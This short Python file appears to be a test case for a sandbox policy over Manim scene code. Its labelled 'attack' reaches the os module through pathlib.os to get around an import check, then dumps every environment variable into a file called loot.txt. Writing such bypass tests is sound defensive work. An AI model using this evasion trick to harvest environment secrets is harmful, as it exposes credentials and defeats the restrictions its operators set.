# family: environment
# layer: policy
# attack: os reached as pathlib.os
import pathlib
from manim import *


class Attack(Scene):
    def construct(self):
        open("loot.txt", "w").write(str(dict(pathlib.os.environ)))
        self.wait(0.1)
